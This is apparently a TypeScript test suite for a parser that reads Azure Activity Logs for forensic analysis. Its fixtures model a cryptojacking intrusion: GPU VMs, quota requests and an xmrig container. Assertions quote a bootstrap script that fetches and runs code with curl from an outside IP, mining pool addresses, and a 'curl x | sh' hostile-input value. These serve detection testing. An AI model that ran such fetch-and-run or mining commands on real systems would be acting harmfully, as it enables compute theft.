import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import type { CoalEvent } from '../model/event.js';
import { azureActivity } from './azure-activity.js';
import { cutLineCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from './contract.js';
import { sniffSource } from './index.js';
import type { SourceInput } from './types.js';

const DIR = 'test/fixtures/azure-activity';
const good = fileInput(`${DIR}/good.jsonl`);
const bad = fileInput(`${DIR}/bad.jsonl`);
const cli = fileInput(`${DIR}/cli.json`);
const records = fileInput(`${DIR}/records.json`);
const SUB = '3f2b9c4e-8a1d-4e6f-9b7a-2c5d1e0f4a36';
const VM1 = `/subscriptions/${SUB}/resourcegroups/rg-gpu-br/providers/microsoft.compute/virtualmachines/miner-01`;

runSourceContract({
  source: azureActivity,
  good,
  bad,
  // the blob copied while the second VM's Start was written: it ends inside its vmSize
  cut: cutLineCase(good, 4, '\\"vmSize\\": \\"', 'Standard_CUTGPU'),
});

async function unusedOf(input: SourceInput): Promise<number> {
  let unused = 0;
  for await (const batch of azureActivity.read(input, TEST_CONTEXT)) unused += batch.unused ?? 0;
  return unused;
}

test('one cloud-change per operation: Start, Accept and Success of one correlationId are one event at the Start', async () => {
  const { events, issues } = await readAll(azureActivity, good);
  assert.deepEqual(issues, []);
  // in time order: an operation is dated by its Start, though its end is read later (ENGINE_LATE_EVENT otherwise)
  assert.deepEqual(
    events.map((e) => [e['@timestamp'], e.coalmine.cloud?.operation, e.event.outcome]),
    [
      ['2026-11-02T03:10:00.000Z', 'Microsoft.Compute/register/action', 'success'],
      [
        '2026-11-02T03:12:00.000Z',
        'Microsoft.Capacity/resourceProviders/locations/serviceLimitsRequests/write',
        'success',
      ],
      ['2026-11-02T03:20:04.118Z', 'Microsoft.Compute/virtualMachines/write', 'success'], // lines 1-3
      ['2026-11-02T03:24:00.500Z', 'Microsoft.Compute/virtualMachines/write', 'success'], // lines 5-6
      ['2026-11-02T03:27:30.250Z', 'Microsoft.Compute/virtualMachines/write', 'failure'],
    ],
  );
  assert.ok(events.every((e) => e.event.action === 'cloud-change' && e.host?.name === `azure:${SUB}`));
  assert.equal(await unusedOf(good), 1); // storage account keys listed
});

test('a service principal creating a GPU VM: principal, app id as the key, region, size, image, NIC and decoded customData', async () => {
  const { events } = await readAll(azureActivity, good);
  const vm = events[2];
  const c = vm.coalmine.cloud;
  assert.equal(c?.provider, 'azure');
  assert.equal(c?.service, 'Microsoft.Compute');
  assert.equal(c?.account, SUB);
  assert.equal(c?.region, 'brazilsouth');
  assert.deepEqual(c?.principal, {
    id: 'b8d4e2f1-7a3c-4e9b-8d6f-0c1a2b3e4f5d',
    type: 'ServicePrincipal',
    accessKeyId: '6a1e8d2b-0c4f-4b7e-a9d3-5f2c8e1b0a47',
  });
  assert.equal(c?.count, 1);
  assert.equal(c?.instanceType, 'Standard_NC24');
  assert.equal(c?.image, 'Canonical:0001-com-ubuntu-server-jammy:22_04-lts-gen2:latest');
  assert.deepEqual(c?.instances, [
    {
      id: VM1,
      name: 'miner-01',
      type: 'Standard_NC24',
      image: 'Canonical:0001-com-ubuntu-server-jammy:22_04-lts-gen2:latest',
      zone: '1',
      interfaces: [
        `/subscriptions/${SUB}/resourcegroups/rg-gpu-br/providers/microsoft.network/networkinterfaces/miner-01-nic`,
      ],
      tags: { owner: 'ml-team' },
    },
  ]);
  assert.match(c?.userData ?? '', /^#!\/bin\/bash\ncurl -fsSL http:\/\/198\.51\.100\.23\/x\.sh/);
  assert.match(c?.userData ?? '', /pool\.supportxmr\.com:443/);
  assert.deepEqual(vm.user, { name: 'b8d4e2f1-7a3c-4e9b-8d6f-0c1a2b3e4f5d' });
  assert.deepEqual(vm.source, { ip: '203.0.113.77' });
  assert.deepEqual(vm.cloud, {
    provider: 'azure',
    account: { id: SUB },
    region: 'brazilsouth',
    instance: { id: VM1, name: 'miner-01' },
    machine: { type: 'Standard_NC24' },
    availability_zone: '1',
  });
  // the answer's record is the one cited; the bodies are summarised, not carried
  assert.equal(vm.coalmine.ref.line, 3);
  assert.equal(JSON.stringify(vm.original).includes('requestbody'), false);
});

test('AuthorizationFailed is a failure with the error code and message, still naming the VM asked for', async () => {
  const { events } = await readAll(azureActivity, good);
  const denied = events[4];
  assert.equal(denied.event.outcome, 'failure');
  assert.deepEqual(denied.event.type, ['change', 'denied']);
  assert.equal(denied.coalmine.cloud?.errorCode, 'AuthorizationFailed');
  assert.match(denied.coalmine.cloud?.errorMessage ?? '', /does not have authorization to perform action/);
  assert.equal(denied.coalmine.cloud?.instances?.[0].name, 'miner-03');
});

test('quota requests and provider registration are kept with what they name', async () => {
  const { events } = await readAll(azureActivity, good);
  const quota = events[1].coalmine.cloud;
  assert.equal(quota?.region, 'brazilsouth');
  assert.equal(quota?.count, 480);
  assert.deepEqual(quota?.resources, [{ type: 'quota', name: 'standardNCFamily' }]);
  assert.deepEqual(events[0].coalmine.cloud?.resources, [{ type: 'provider', name: 'Microsoft.Compute' }]);
});

test('az monitor activity-log list: scale set with capacity and ticket tag, autoscale, NSG ingress, role assignment', async () => {
  const { events, issues } = await readAll(azureActivity, cli);
  assert.deepEqual(issues, []);
  assert.equal(await unusedOf(cli), 1); // the deployment write
  const [vmss, autoscale, rule, role] = events;
  assert.equal(events.length, 4);
  assert.equal(vmss['@timestamp'], '2026-11-01T22:00:03.512Z'); // Started; its Succeeded is the same operation
  assert.equal(vmss.event.outcome, 'success');
  assert.equal(vmss.coalmine.cloud?.operation, 'Microsoft.Compute/virtualMachineScaleSets/write');
  assert.equal(vmss.coalmine.cloud?.count, 4);
  assert.equal(vmss.coalmine.cloud?.instanceType, 'Standard_NC24ads_A100_v4');
  assert.deepEqual(vmss.coalmine.cloud?.tags, { ticket: 'ML-4821', owner: 'ml-platform' });
  assert.match(vmss.coalmine.cloud?.userData ?? '', /^#cloud-config\n/);
  assert.deepEqual(vmss.source, { ip: '192.0.2.10' });
  assert.deepEqual(vmss.coalmine.cloud?.resources, [
    { type: 'resource-group', name: 'rg-ml-train' },
    { type: 'scale-set', name: 'vmss-train' },
  ]);

  assert.equal(autoscale.coalmine.cloud?.principal?.invokedBy, 'Microsoft.Insights/autoscaleSettings');
  assert.equal(autoscale.coalmine.cloud?.principal?.type, 'AzureService');
  assert.equal(autoscale.coalmine.cloud?.count, 5);
  assert.ok(autoscale.coalmine.cloud?.resources?.some((r) => r.type === 'scale-set' && r.name === 'vmss-web'));

  assert.deepEqual(rule.user, { name: 'dana@contoso.example', id: 'e3f4a5b6-c7d8-4e9f-a0b1-c2d3e4f5a6b7' });
  assert.equal(rule.coalmine.cloud?.principal?.type, 'User');
  assert.ok(rule.coalmine.cloud?.resources?.some((r) => r.type === 'ingress' && r.name === '* -> 22/tcp'));

  assert.deepEqual(role.event.category, ['iam']);
  assert.ok(
    role.coalmine.cloud?.resources?.some((r) => r.type === 'role' && r.name === 'b24988ac-6180-42a0-ab88-20f7382dd24c'),
  );
});

test('the pre-2018 {"records": […]} document: a container group with its miner image, command and env; a VM start', async () => {
  const { events, issues } = await readAll(azureActivity, records);
  assert.deepEqual(issues, []);
  const [group, start] = events;
  assert.deepEqual(group.coalmine.cloud?.containers, [
    {
      name: 'worker',
      image: 'docker.io/metminer/xmrig:6.21.0',
      command: ['xmrig', '-o', 'stratum+tcp://pool.minexmr.example:4444', '--donate-level', '0'],
      env: ['WALLET=44AFFq5kSiGBoZ4N', 'API_TOKEN=(secure)'],
      cpuRequestCores: 4,
    },
  ]);
  assert.equal(group.coalmine.ref.line, 3);
  assert.deepEqual(start.event.type, ['start']);
  assert.equal(start.coalmine.cloud?.instances?.[0].state, 'running');
  assert.equal(start.cloud?.instance?.id, VM1);
});

test('an operation whose end is not in the file is emitted from its Start with outcome unknown', async () => {
  const [first] = good.head.toString('utf8').split('\n');
  const { events } = await readAll(azureActivity, memoryInput('start-only.jsonl', `${first}\n`));
  assert.equal(events.length, 1);
  assert.equal(events[0].event.outcome, 'unknown');
  assert.equal(events[0].coalmine.cloud?.instanceType, 'Standard_NC24');
});

test('a long operation ending after a later call began still comes out before it: a file is given in time order', async () => {
  const lines = good.head.toString('utf8').split('\n');
  // miner-01's Start, miner-02's Start and Success, then miner-01's Success: the first operation ends last
  const text = [lines[0], lines[4], lines[5], lines[2]].join('\n');
  const { events } = await readAll(azureActivity, memoryInput('interleaved.jsonl', `${text}\n`));
  assert.deepEqual(
    events.map((e) => [e['@timestamp'], e.cloud?.instance?.name]),
    [
      ['2026-11-02T03:20:04.118Z', 'miner-01'],
      ['2026-11-02T03:24:00.500Z', 'miner-02'],
    ],
  );
});

test('records without a correlationId are not joined: each is its own event', async () => {
  const lines = good.head
    .toString('utf8')
    .split('\n')
    .slice(0, 3)
    .map((l) => {
      const o = JSON.parse(l);
      delete o.correlationId;
      return JSON.stringify(o);
    });
  const { events } = await readAll(azureActivity, memoryInput('uncorrelated.jsonl', `${lines.join('\n')}\n`));
  assert.deepEqual(
    events.map((e) => e.event.outcome),
    ['unknown', 'unknown', 'success'],
  );
});

test('hostile fields: an over-long resource id, a customData that is not base64 and a body that is not JSON read without harm', async () => {
  const [first] = good.head.toString('utf8').split('\n');
  const o = JSON.parse(first);
  o.resultType = 'Success';
  o.resourceId = `/SUBSCRIPTIONS/${SUB}/${'A/'.repeat(5000)}`;
  o.properties.requestbody = '{"properties": {"osProfile": {"customData": "not base64 at all; curl x | sh"}}}';
  const two = JSON.parse(first);
  two.resultType = 'Success';
  two.correlationId = 'other';
  two.properties.requestbody = `{${'"a":['.repeat(200)}`;
  const { events, issues } = await readAll(
    azureActivity,
    memoryInput('hostile.jsonl', `${JSON.stringify(o)}\n${JSON.stringify(two)}\n`),
  );
  assert.deepEqual(issues, []);
  assert.equal(events.length, 2);
  assert.equal(events[0].cloud?.instance, undefined);
  assert.equal(events[0].coalmine.cloud?.userData, 'not base64 at all; curl x | sh');
  assert.equal(events[1].coalmine.cloud?.instanceType, undefined);
});

test('each Azure Activity fixture sniffs as azure-activity, and no other format fixture does', () => {
  for (const input of [good, bad, cli, records])
    assert.equal(sniffSource(input)?.name, 'azure-activity', `${input.name} sniffs as ${sniffSource(input)?.name}`);
  for (const dir of readdirSync('test/fixtures')) {
    if (dir === 'azure-activity' || dir === 'public') continue;
    let names: string[];
    try {
      names = readdirSync(`test/fixtures/${dir}`);
    } catch {
      continue;
    }
    for (const name of names) {
      if (!/\.(?:json|jsonl|log|ndjson)$/.test(name)) continue;
      const input = fileInput(`test/fixtures/${dir}/${name}`);
      assert.notEqual(sniffSource(input)?.name, 'azure-activity', `${input.name} is not an Azure Activity Log`);
    }
  }
});

test('fuzz: a damaged activity export never throws; every issue has a line and every event is a well-formed cloud-change', async () => {
  let seed = 17;
  const rand = (n: number) => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed % n;
  };
  const bytes = cli.head;
  for (let round = 0; round < 80; round++) {
    const copy = Buffer.from(bytes.subarray(0, round % 3 === 0 ? rand(bytes.length) : bytes.length));
    for (let flips = 0; flips < 1 + rand(8); flips++)
      copy[rand(copy.length)] = [0x22, 0x7b, 0x7d, 0x5b, 0x5d, 0x2c, 0x3a, 0x00, 0x0a, 0x39, 0x2d, 0x5c][rand(12)];
    const { events, issues } = await readAll(azureActivity, memoryInput(`fuzz-${round}.json`, copy));
    for (const i of issues) assert.ok(i.line !== undefined && i.line >= 1, `${i.code} without a line`);
    for (const e of events) {
      assert.equal(e.event.action, 'cloud-change');
      assert.equal(new Date(e.coalmine.ts).toISOString(), e['@timestamp']);
    }
  }
});

test('the Python SDK form (EventData.as_dict(): snake_case names) is sniffed and read as the CLI form is', async () => {
  const snake = (key: string) => key.replace(/[A-Z]/g, (c) => `_${c.toLowerCase()}`);
  const snakeKeys = (o: Record<string, unknown>) =>
    Object.fromEntries(Object.entries(o).map(([k, v]) => [snake(k), v]));
  const cliRecords = JSON.parse(readFileSync(`${DIR}/cli.json`, 'utf8')) as Record<string, unknown>[];
  const sdkLines = cliRecords.map((r) => {
    const o = snakeKeys(r);
    if (typeof o.http_request === 'object' && o.http_request !== null)
      o.http_request = snakeKeys(o.http_request as Record<string, unknown>);
    return JSON.stringify(o);
  });
  assert.ok(sdkLines.every((l) => l.includes('"operation_name"') && !l.includes('"operationName"')));
  const sdk = memoryInput('sdk.jsonl', `${sdkLines.join('\n')}\n`);
  assert.equal(sniffSource(sdk)?.name, 'azure-activity');
  const comparable = (events: CoalEvent[]) =>
    events.map((e) => ({ ts: e.coalmine.ts, event: e.event, source: e.source, host: e.host, cloud: e.coalmine.cloud }));
  const fromCli = await readAll(azureActivity, cli);
  const fromSdk = await readAll(azureActivity, sdk);
  assert.deepEqual(fromSdk.issues, []);
  assert.ok(fromCli.events.length >= 2);
  assert.deepEqual(comparable(fromSdk.events), comparable(fromCli.events));
});

test('a NIC write names the interface with the private addresses and MAC it holds (NSG flow logs name VMs only so)', async () => {
  const nic = `/SUBSCRIPTIONS/${SUB}/RESOURCEGROUPS/RG-GPU-BR/PROVIDERS/MICROSOFT.NETWORK/NETWORKINTERFACES/MINER-01-NIC`;
  const body = {
    location: 'brazilsouth',
    properties: {
      macAddress: '00-0D-3A-7B-11-22',
      ipConfigurations: [
        { name: 'ipconfig1', properties: { privateIPAddress: '10.8.0.4', privateIPAllocationMethod: 'Dynamic' } },
      ],
    },
  };
  const record = {
    time: '2026-11-02T03:19:30.0000000Z',
    resourceId: nic,
    operationName: 'MICROSOFT.NETWORK/NETWORKINTERFACES/WRITE',
    category: 'Administrative',
    resultType: 'Success',
    callerIpAddress: '203.0.113.77',
    correlationId: '0b6c2d1e-3f4a-4b5c-8d9e-0f1a2b3c4d5e',
    identity: { claims: { appid: '6a1e8d2b-0c4f-4b7e-a9d3-5f2c8e1b0a47', idtyp: 'app' } },
    properties: { responseBody: JSON.stringify(body) },
  };
  const { events, issues } = await readAll(azureActivity, memoryInput('nic.jsonl', `${JSON.stringify(record)}\n`));
  assert.deepEqual(issues, []);
  assert.deepEqual(events[0]?.coalmine.cloud?.interfaces, [
    { id: nic.toLowerCase(), mac: '00-0D-3A-7B-11-22', privateIps: ['10.8.0.4'] },
  ]);
});

test("autoscale's own writes in the storage export (no caller, only the spn claim) name the service acting", async () => {
  const record = {
    time: '2026-11-17T03:59:58.0000000Z',
    resourceId: `/SUBSCRIPTIONS/${SUB}/RESOURCEGROUPS/RG-WEB/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WEB-VMSS`,
    operationName: 'MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE',
    category: 'Administrative',
    resultType: 'Success',
    correlationId: '1b2c3d4e-5f60-4a1b-8c2d-3e4f5a6b7c8d',
    identity: {
      claims: { 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/spn': 'Microsoft.Insights/autoscaleSettings' },
    },
    properties: { requestbody: JSON.stringify({ sku: { name: 'Standard_D4s_v5', capacity: 5 } }) },
  };
  const { events, issues } = await readAll(azureActivity, memoryInput('scale.jsonl', `${JSON.stringify(record)}\n`));
  assert.deepEqual(issues, []);
  assert.equal(events[0]?.coalmine.cloud?.principal?.invokedBy, 'Microsoft.Insights/autoscaleSettings');
});
